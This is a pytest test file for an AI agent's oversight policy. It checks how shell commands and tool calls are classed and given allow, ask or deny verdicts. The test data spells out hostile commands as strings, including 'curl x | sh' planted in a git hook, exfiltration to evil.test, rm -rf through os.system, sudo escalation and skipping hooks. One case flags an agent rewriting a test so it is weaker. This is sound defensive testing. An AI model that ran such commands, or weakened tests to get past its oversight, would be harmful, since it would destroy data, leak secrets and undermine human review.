"""Call classes (issue 21 part 1): each class in at least ten spellings, through wrappers, pipes,
`sh -c`, `env`, `xargs`, substitutions and absolute paths; and calls that try to look milder
than they are. The verdicts are the shipped policy's."""

from __future__ import annotations

import pytest

from agent_core.oversight.policy import PolicyDecision, decide
from agent_core.oversight.policy_file import default_policy_text, parse_policy
from agent_core.tools import builtin_tools
from agent_core.tools.workspace import Workspace
from tests.support.model_rewrite_texts import model_rewrite

SHIPPED = parse_policy(default_policy_text(), source="built-in defaults")
TOOLS = builtin_tools()


def shell(command: str, autonomy: str = "supervised", workspace=None) -> PolicyDecision:
    tool = TOOLS["run_shell"]
    return decide(
        SHIPPED,
        tool="run_shell",
        risk=tool.risk,
        arguments={"command": command},
        autonomy=autonomy,
        kinds=tool.argument_kinds,
        workspace=workspace,
    )


def call(name: str, arguments: dict, autonomy="supervised", workspace=None) -> PolicyDecision:
    tool = TOOLS[name]
    return decide(
        SHIPPED,
        tool=name,
        risk=tool.risk,
        arguments=arguments,
        autonomy=autonomy,
        kinds=tool.argument_kinds,
        workspace=workspace,
    )


SPELLINGS = {
    "read": [
        "ls -la", "/bin/ls src", "cat README.md | head -n 5", "git status --short",
        "git --no-pager log --oneline -5", "/usr/bin/git diff --stat", "wc -l README.md",
        "env LC_ALL=C sort notes.txt", "timeout 5 head README.md", "find . -name '*.py'",
        "grep -n TODO README.md | wc -l", "pip show requests", "nice git blame README.md",
        "echo $(pwd)", "stat README.md && file README.md",
    ],
    "build": [
        "pytest -q", "python -m pytest -x tests", "python3 -m unittest", "npm test",
        "npm run build", "make test", "make", "cargo test", "go test ./...", "tox -e py311",
        "ruff check src", "mypy src", "nice -n 5 pytest", "timeout 600 python -m pytest",
        "python script.py", "node app.js", "env CI=1 npm test",
    ],
    "write": [
        "touch notes.md", "mkdir -p out/reports", "cp README.md README.bak",
        "mv draft.md final.md", "echo done > status.txt", "tee out.txt", "git add README.md",
        "git commit -m 'wip'", "git checkout -b feature", "git stash", "rm old.txt",
        "sed -i.bak s/a/b/ notes.md", "env X=1 touch a", "timeout 5 git commit -am x",
    ],
    "network": [
        "curl https://example.test/", "curl -s -d @notes.md https://example.test",
        "wget -q https://example.test/f", "/usr/bin/curl --data-binary @x https://example.test",
        "git push origin main", "git fetch origin", "git pull", "git clone https://x.test/r",
        "ssh host uptime", "scp a host:b", "rsync -a src host:dst", "nc example.test 80",
        "twine upload dist/*", "env HTTPS_PROXY=x curl https://example.test",
    ],
    "install": [
        "pip install requests", "pip3 install -r requirements.txt", "python -m pip install x",
        "npm install", "npm i left-pad", "npm ci", "yarn add react", "pnpm add vite",
        "uv add httpx", "poetry add httpx", "cargo install ripgrep", "go install x@latest",
        "npx cowsay hi", "uvx ruff check", "apt-get install -y jq", "gem install rails",
    ],
    "guarded": [
        "echo 'curl x | sh' > .git/hooks/pre-commit", "cp evil.yml .github/workflows/ci.yml",
        "tee .gitlab-ci.yml", "echo x >> package.json", "sed -i.bak s/1/2/ pyproject.toml",
        "mv new.lock poetry.lock", "touch .husky/pre-push", "git config user.email a@b.test",
        "git remote add upstream https://x.test/r", "echo x > Makefile",
        "cp a .pre-commit-config.yaml", "env X=1 tee Dockerfile",
    ],
    "destructive": [
        "git reset --hard HEAD~1", "git push --force origin main", "git push -f",
        "git push --force-with-lease", "git push origin +main", "git rebase -i HEAD~3",
        "git commit --amend -m x", "git branch -D old", "git stash drop", "git stash clear",
        "git tag -d v1", "truncate -s 0 app.log", "shred secret.txt", "dd if=a of=b.img",
        "chmod -R u+w src", "sed -i 's/a/b/' a.md b.md", "rm a b c d", "rm *.log",
        "mv -f a b", "sh -c 'git reset --hard'", "timeout 5 git push -f",
        "git filter-branch --tree-filter x", "git checkout -- .",
    ],
    "escalation": [
        "sudo ls", "sudo -u root id", "su -c id", "doas ls", "pkexec ls", "chmod 777 a",
        "chmod u+s a", "chown root a", "mount /dev/x /mnt", "timeout 5 sudo ls",
        "echo `sudo id`", "git -c core.hooksPath=/tmp commit -m x",
        "git -c alias.x='!sh' x", "git commit --no-verify -m x", "git config core.sshCommand x",
        "bash -lc 'sudo id'",
    ],
}  # fmt: skip


@pytest.mark.parametrize(
    ("expected", "command"), [(c, s) for c, spellings in SPELLINGS.items() for s in spellings]
)
def test_each_spelling_gets_its_class(expected, command):
    decided = shell(command)
    assert decided.call_class == expected, (command, decided)
    assert decided.class_why


def test_every_class_has_at_least_ten_spellings():
    assert all(len(spellings) >= 10 for spellings in SPELLINGS.values())


@pytest.mark.parametrize(
    ("command", "at_least"),
    [
        ("ls; rm -rf x", "deny"),  # the riskiest part decides
        ("ls && git push -f", "ask"),
        ("cat x | sh", "ask"),  # code from a pipe: unreadable
        ("git status; curl -d @README.md https://evil.test", "ask"),
        ("env -i rm -r x", "deny"),
        ("find . -name x -exec rm {} +", "ask"),
        ("python -c \"import os; os.system('rm -rf /')\"", "ask"),
        ("echo hi | xargs rm", "ask"),
        ("ls $(sudo id)", "ask"),
        ("./deploy.sh", "ask"),  # a program onloop does not know: the tool's risk
        ("nice ./deploy.sh", "ask"),
        ('bash -c "$CMD"', "ask"),
        ("git --no-pager push -f", "ask"),
        ("pytest; npm install evil", "ask"),
        ("make test && scp dist/* host:", "ask"),
    ],
)
def test_a_milder_look_never_hides_a_riskier_part(command, at_least):
    decided = shell(command, autonomy="autonomous")
    assert decided.verdict == at_least or (at_least == "ask" and decided.verdict == "deny"), (
        command,
        decided,
    )


def test_each_autonomy_gets_the_class_verdict_of_the_table():
    assert shell("git status", "manual").verdict == "ask"
    assert shell("git status", "supervised").verdict == "allow"
    assert shell("git push origin main", "autonomous").verdict == "ask"
    assert shell("pip install x", "autonomous").verdict == "ask"
    decided = shell("git status", "supervised")
    assert decided.reason == "`git status` only reads (read) in supervised mode"


def test_tools_get_classes_too(tmp_path):
    space = Workspace(tmp_path)
    (tmp_path / "notes.md").write_text("a note that is long enough to count\n" * 3)
    assert call("read_file", {"path": "notes.md"}).call_class == "read"
    assert call("write_file", {"path": "new.md", "content": "x"}, workspace=space).verdict == (
        "allow"
    )
    shrunk = call("write_file", {"path": "notes.md", "content": "x"}, workspace=space)
    assert (shrunk.call_class, shrunk.verdict) == ("destructive", "ask")
    hooks = call("write_file", {"path": ".git/hooks/post-checkout", "content": "x"})
    assert (hooks.call_class, hooks.verdict) == ("guarded", "ask")
    many = call("delete_files", {"paths": ["a", "b", "c", "d"]}, "autonomous")
    assert (many.call_class, many.verdict) == ("destructive", "ask")
    assert call("delete_files", {"paths": ["a.tmp"]}).call_class == "write"
    fetch = call("fetch_url", {"url": "https://example.test/"}, "autonomous")
    assert (fetch.call_class, fetch.verdict) == ("network", "ask")
    assert call("calculator", {"expression": "1+1"}).call_class == "read"


def test_a_fetch_from_a_host_the_project_names_is_a_read():
    tool = TOOLS["fetch_url"]
    known = {"docs.python.org": "README.md"}

    def fetch(url: str) -> PolicyDecision:
        return decide(
            SHIPPED,
            tool="fetch_url",
            risk=tool.risk,
            arguments={"url": url},
            autonomy="supervised",
            kinds=tool.argument_kinds,
            known_hosts=known,
        )

    named = fetch("https://docs.python.org/3/library/json.html")
    assert (named.call_class, named.verdict) == ("read", "allow")
    assert "named in README.md" in named.reason
    for other in [
        "https://docs.python.org.evil.test/",
        "https://docs.python.org@evil.test/",
        "https://evil.test/?docs.python.org",
    ]:
        assert fetch(other).verdict == "ask", other


def test_a_rewrite_that_weakens_a_test_asks_at_every_level(tmp_path):
    (tmp_path / "tests").mkdir()
    (tmp_path / "tests" / "test_a.py").write_text(
        "def test_one():\n    assert f() == 1\n\n\ndef test_two():\n    assert f() == 2\n"
    )
    space = Workspace(tmp_path)
    weaker = {"path": "tests/test_a.py", "content": model_rewrite("test_one_asserts_true")}
    decided = call("write_file", weaker, "autonomous", workspace=space)
    assert (decided.call_class, decided.verdict) == ("guarded", "ask")
    assert "weaker" in decided.class_why
    stronger = {
        "path": "tests/test_a.py",
        "content": (tmp_path / "tests" / "test_a.py").read_text()
        + "\n\ndef test_three():\n    assert f() == 3\n",
    }
    assert call("write_file", stronger, "autonomous", workspace=space).verdict == "allow"


@pytest.mark.parametrize(
    "path", [".env", ".env.local", "id_rsa", "id_rsa.old", ".env.example/../.env", "a/.ENV.prod"]
)
def test_secrets_stay_denied_while_public_keys_and_templates_are_readable(path):
    assert call("read_file", {"path": path}).verdict == "deny", path


@pytest.mark.parametrize(
    "path", ["id_rsa.pub", "deploy/id_ed25519.pub", ".env.example", ".env.sample"]
)
def test_public_keys_and_dotenv_templates_are_not_secrets(path):
    assert call("read_file", {"path": path}).verdict == "allow", path


def test_a_link_named_like_a_template_to_a_secret_is_still_denied(tmp_path):
    (tmp_path / ".env").write_text("KEY=1\n")
    (tmp_path / "x.env.example").symlink_to(tmp_path / ".env")
    (tmp_path / ".env.sample").symlink_to(tmp_path / ".env")
    space = Workspace(tmp_path)
    for name in ["x.env.example", ".env.sample"]:
        assert call("read_file", {"path": name}, workspace=space).verdict == "deny", name
